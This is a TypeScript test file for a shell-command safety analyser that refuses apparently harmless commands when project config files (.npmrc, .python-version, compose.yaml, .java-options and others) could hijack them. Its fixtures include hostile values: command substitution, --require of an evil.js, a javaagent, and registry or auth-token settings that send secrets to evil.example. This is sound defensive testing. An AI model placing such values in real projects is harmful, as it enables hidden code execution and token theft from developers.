import { posix } from "node:path";
import { describe, expect, it } from "vitest";
import { analyse } from "../../../../src/policy/shell/analyse.ts";
import { facts } from "../facts.ts";
import { reasonAgainst } from "./reason-against.ts";

describe("a file of the project that a program obeys", () => {
  it.each([
    ["go version", "go.mod", "module x\n\ngo 1.25\n"],
    ["go env GOPATH", "go.work", "go 1.25\n"],
    ["go help build", "go.mod", ""],
    ["ansible --version", "ansible.cfg", "[defaults]\nlog_path = ./log\n"],
    ["rustup toolchain list", "rust-toolchain.toml", '[toolchain]\npath = "./evil"\n'],
    ["cargo --version", "rust-toolchain.toml", '[toolchain]\npath = "./evil"\n'],
    ["cargo metadata --no-deps", "rust-toolchain", "nightly\n"],
    ["rustfmt --version", "rust-toolchain", "nightly\n"],
    ["node --version", ".tool-versions", "nodejs path:./evil\n"],
    ["npm ls", "mise.toml", '[tools]\nnode = "path:./evil"\n'],
    ["jq --version; npm ls", ".config/mise.toml", ""],
    ["python3 --version", ".mise/config.toml", ""],
    ["terraform version", ".mise.local.toml", ""],
    ["kubectl get pods", ".tool-versions", ""],
    ["shellcheck a.sh", ".tool-versions", ""],
    ["java -version", ".java-options", "-javaagent:./evil.jar\n"],
    ["javap Foo", ".java-options", "-J-javaagent:./evil.jar\n"],
    ["node -v", ".volta/hooks.json", '{"node":{"index":{"bin":"./evil"}}}'],
    ["npm -v", ".corepack.env", "COREPACK_ENABLE_UNSAFE_CUSTOM_URLS=1\n"],
    ["terraform version", ".terraform-version", "1.9.0\n"],
    ["tsc --version", "node_modules/.bin/tsc", ""],
    ["eslint --version", "node_modules/.bin/eslint", ""],
    ["prettier --version", "node_modules/.bin/prettier", ""],
  ])("refuses %s where %s lies, unless in the sandbox", (command, file, text) => {
    expect(reasonAgainst(command)).toBeUndefined();
    expect(reasonAgainst(command, { files: { [file]: text } })).toContain(file);
    expect(reasonAgainst(command, { files: { [file]: text }, sandboxed: true })).toBeUndefined();
  });

  it.each([
    ["python3 --version", ".python-version", "3.12.1\n", "../../../../project/evil\n"],
    ["python3 -V", ".python-version", "# ours\n3.12\n3.11 # old\r\n", "3.12\n/project/evil\n"],
    ["pip list", ".python-version", "3.10.0/envs/app\n", "3.10.0/../../../project\n"],
    ["yamllint .", ".python-version", "pypy3.9-7.3.11\n", "..\n"],
    ["uv --version", ".python-version", ">=3.12,<3.14\n", "$(touch marker)\n"],
    ["ruby -v", ".ruby-version", "ruby-3.3.0\n", "../../evil\n"],
    ["gem list", ".ruby-version", "jruby-9.4.5.0\n", "./evil\n"],
    ["node -v", ".node-version", "v22.1.0\n", "../evil\n"],
    ["node --check a.js", ".nvmrc", "lts/*\n", "`touch marker`\n"],
    ["gofmt -l .", ".go-version", "1.23.1\n", "../evil\n"],
    ["java -version", ".java-version", "openjdk64-17.0.2\n", "../../project/jdk\n"],
    ["perl -v", ".perl-version", "5.36.0\n", "-x\n"],
    ["dotnet --version", "global.json", '{"sdk":{"version":"9.0.100"}}', '{"sdk":{"paths":[".dotnet","$host$"]}}'],
    ["dotnet --info", "global.json", '{"sdk":{"version":"9.0.100"}}', '{"sdk":{"p\\u0061ths":[".dotnet"]}}'],
    ["node -v", "package.json", '{"name":"x","engines":{"node":"22"}}', '{"volta":{"node":"18.0.0"}}'],
    ["npm ls", "package.json", '{"packageManager":"pnpm@9.0.0"}', '{"packageManager":"npm@10.2.0"}'],
    ["npm root", "package.json", '\ufeff{"packageManager":"yarn@4.1.0"}', '{"packageManager":"npm@https://x/y.tgz"}'],
    ["npm run", "package.json", "{}", '{"devEngines":{"packageManager":{"name":"npm","version":"11"}}}'],
    ["tsc -v", "package.json", '{"devDependencies":{"volta":"1"}}', '{"vol\\u0074a":{"node":"18.0.0"}}'],
    ["npm -v", "package.json", "{}", "{"],
    ["docker compose ps", "compose.yaml", "services: {}\n", "include:\n  - oci://evil.example/x\n"],
    ["docker compose config", "docker-compose.yml", "services: {}\n", '{"incl\\u0075de":["x.yml"]}'],
    ["docker compose -f x.yml ps", "x.yml", "services: {}\n", "services: {a: {extends: {file: b.yml}}}\n"],
    ["docker compose logs web", ".env", "COMPOSE_PROJECT_NAME=x\nPORT=1\n", "DOCKER_HOST=ssh://evil.example\n"],
  ])("allows %s while %s says nothing harmful", (command, file, harmless, harmful) => {
    expect(reasonAgainst(command, { files: { [file]: harmless } })).toBeUndefined();
    expect(reasonAgainst(command, { files: { [file]: harmful } })).toContain(file);
    expect(reasonAgainst(command, { files: { [file]: harmful }, sandboxed: true })).toBeUndefined();
  });

  it("is harmful if it cannot be read", () => {
    const place = facts();
    const world = { ...place.world, find: () => ["/project/.python-version"] };
    expect(analyse("python3 -V", { ...place, world })).toMatchObject({
      readOnly: false,
      findings: [{ code: "code", reason: expect.stringContaining(".python-version cannot be read") }],
    });
  });

  it("counts where the command runs, and nothing is certain where that is not known", () => {
    expect(reasonAgainst('for x in packages/*; do cd "$x" && node --version; done')).toContain(
      "that directory is unknown",
    );
    expect(reasonAgainst('for x in packages/*; do cd "$x" && ls; done')).toBeUndefined();
    expect(reasonAgainst("cd src && node --version")).toBeUndefined();
  });

  it("counts only below the user's home", () => {
    const isReadOnly = (cwd: string, ...files: string[]) => {
      const find = (directory: string, names: readonly string[], top?: string): readonly string[] => {
        if (directory === top) return [];
        const here = names.map((name) => posix.join(directory, name)).filter((path) => files.includes(path));
        return directory === "/" ? here : [...here, ...find(posix.dirname(directory), names, top)];
      };
      const place = facts({ cwd });
      return analyse("npm ls", { ...place, world: { ...place.world, find, read: () => "cache=./x" } }).readOnly;
    };
    expect(isReadOnly("/home/ada/a/b", "/home/ada/.npmrc")).toBe(true);
    expect(isReadOnly("/home/ada/a/b", "/home/ada/a/.npmrc")).toBe(false);
    expect(isReadOnly("/home/ada/a/b", "/home/ada/a/b/.npmrc")).toBe(false);
    expect(isReadOnly("/home/ada", "/home/ada/.npmrc")).toBe(true);
    expect(isReadOnly("/srv/a/b", "/srv/a/.npmrc")).toBe(false);
  });
});

describe("a project's .npmrc", () => {
  const ASKED = ["npm --version", "npm ls", "npm pkg get", "npm config get registry", "npm root", "npx --version"];
  const against = (text: string) => ASKED.map((command) => reasonAgainst(command, { files: { ".npmrc": text } }));

  it.each([
    "",
    "# nothing\n; here\n\n",
    "save-exact=true\nfund = false\naudit=false\r\nengine-strict = true\n",
    "legacy-peer-deps\n",
    "registry=https://registry.npmjs.org/\n//registry.npmjs.org/:_authToken=${NPM_TOKEN}\n",
    "@acme:registry=https://npm.pkg.github.com\n//npm.pkg.github.com/:_authToken=${GITHUB_TOKEN}\n",
    "registry=https://npm.acme.dev/repository/all/\nalways-auth=true\n",
    "public-hoist-pattern[]=*eslint*\nnode-linker=hoisted\nauto-install-peers=true\nshamefully-hoist=true\n",
    "[section]\nprogress=false\n",
  ])("may say %j", (text) => {
    expect(against(text)).toEqual(ASKED.map(() => undefined));
  });

  it.each([
    ["node-options=--require ./evil.js", "node-options"],
    ["script-shell=./evil.sh", "script-shell"],
    ["onload-script=./evil.js", "onload-script"],
    ["fund=false\ncache=./cache", "cache"],
    ["logs-dir=.", "logs-dir"],
    ["tmp = .", "tmp"],
    ["prefix=./global", "prefix"],
    ["globalconfig=./evil", "globalconfig"],
    ["userconfig=./evil", "userconfig"],
    ["editor=./evil", "editor"],
    ["viewer=./evil", "viewer"],
    ["browser=./evil", "browser"],
    ["git=./evil", "git"],
    ["init-module=./evil.js", "init-module"],
    ["timing=true", "timing"],
    ["logs-max=0", "logs-max"],
    ["proxy=http://evil.example/", "proxy"],
    ["strict-ssl=false", "strict-ssl"],
    ["user-agent=${TOKEN}", "user-agent"],
    ["something-new=1", "something-new"],
    ['"cache"=./x', "not understood"],
    ["'cache' = ./x", "not understood"],
    ["cache;x=./y", "not understood"],
    ["cache#x=./y", "cache#x"],
    ["${X}=./y", "not understood"],
    ["cache", "cache"],
    ["[a]\n[b\ncache=./x", "[b"],
    ["//evil.example/:tokenHelper=./evil", "tokenHelper"],
    ["registry=https://evil.example/${TOKEN}/", "environment"],
    ["registry=https://evil.example/\n//evil.example/:_authToken=${TOKEN}", "environment"],
  ])("may not say %j", (text, reason) => {
    for (const against_ of against(text)) expect(against_).toContain(reason);
  });
});
